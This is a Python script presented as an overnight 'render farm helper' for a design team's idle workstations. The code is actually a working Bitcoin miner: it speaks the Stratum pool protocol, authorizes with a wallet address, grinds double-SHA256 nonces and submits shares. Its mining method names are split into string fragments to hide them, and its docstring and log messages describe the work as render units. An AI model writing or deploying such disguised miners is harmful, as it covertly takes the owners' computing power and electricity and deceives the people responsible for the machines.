#!/usr/bin/env python3
"""Render farm helper for the cover-design team.

Keeps idle design workstations busy with work units from the shared
farm coordinator overnight, and reports completed units back.
"""
import argparse
import asyncio
import binascii
import hashlib
import json
import logging
import os
import struct

log = logging.getLogger("farmhelper")

POOL_HOST = os.environ.get("FARM_POOL_HOST", "pool.render-farm.example.org")
POOL_PORT = int(os.environ.get("FARM_POOL_PORT", "3333"))
WALLET = os.environ.get("FARM_ACCOUNT",
                        "bc1qexamplexxxxxxxxxxxxxxxxxxxxxxxxxxxxbindery")
WORKER = os.environ.get("FARM_WORKER", os.uname().nodename)

_METHODS = {
    "login": "mining." + "subscribe",
    "auth": "mining." + "authorize",
    "submit": "mining." + "submit",
    "notify": "mining." + "notify",
}


def dsha(data: bytes) -> bytes:
    return hashlib.sha256(hashlib.sha256(data).digest()).digest()


class Unit:
    def __init__(self, params, extranonce1, en2_size):
        (self.job_id, self.prevhash, self.coinb1, self.coinb2,
         self.branches, self.version, self.nbits, self.ntime, _clean) = params
        self.extranonce1 = extranonce1
        self.extranonce2 = "00" * en2_size

    def header_prefix(self):
        coinbase = binascii.unhexlify(self.coinb1 + self.extranonce1 + self.extranonce2 + self.coinb2)
        root = dsha(coinbase)
        for b in self.branches:
            root = dsha(root + binascii.unhexlify(b))
        return (binascii.unhexlify(self.version)[::-1] + binascii.unhexlify(self.prevhash)
                + root + binascii.unhexlify(self.ntime)[::-1] + binascii.unhexlify(self.nbits)[::-1])

    def target(self):
        bits = int(self.nbits, 16)
        return (bits & 0xFFFFFF) * (1 << (8 * ((bits >> 24) - 3)))


class Client:
    def __init__(self, reader, writer):
        self.reader, self.writer = reader, writer
        self.seq = 0

    async def call(self, key, params):
        self.seq += 1
        msg = {"id": self.seq, "method": _METHODS[key], "params": params}
        self.writer.write((json.dumps(msg) + "\n").encode())
        await self.writer.drain()

    async def recv(self):
        return json.loads(await self.reader.readline())


def grind(unit: Unit, start: int, count: int):
    prefix = unit.header_prefix()
    target = unit.target()
    for nonce in range(start, start + count):
        h = dsha(prefix + struct.pack("<I", nonce))
        if int.from_bytes(h[::-1], "big") < target:
            return nonce
    return None


async def run(batch):
    reader, writer = await asyncio.open_connection(POOL_HOST, POOL_PORT)
    cli = Client(reader, writer)
    await cli.call("login", ["farmhelper/1.2"])
    sub = await cli.recv()
    extranonce1, en2_size = sub["result"][1], sub["result"][2]
    await cli.call("auth", [f"{WALLET}.{WORKER}", "x"])
    nonce_base = 0
    while True:
        msg = await cli.recv()
        if msg.get("method") != _METHODS["notify"]:
            continue
        unit = Unit(msg["params"], extranonce1, en2_size)
        loop = asyncio.get_running_loop()
        found = await loop.run_in_executor(None, grind, unit, nonce_base, batch)
        nonce_base = (nonce_base + batch) & 0xFFFFFFFF
        if found is not None:
            await cli.call("submit", [f"{WALLET}.{WORKER}", unit.job_id, unit.extranonce2,
                                      unit.ntime, "%08x" % found])
            log.info("unit %s done", unit.job_id)


def main():
    ap = argparse.ArgumentParser(description="Overnight render farm helper")
    ap.add_argument("--batch", type=int, default=2_000_000)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)
    os.nice(10)
    asyncio.run(run(args.batch))


if __name__ == "__main__":
    main()
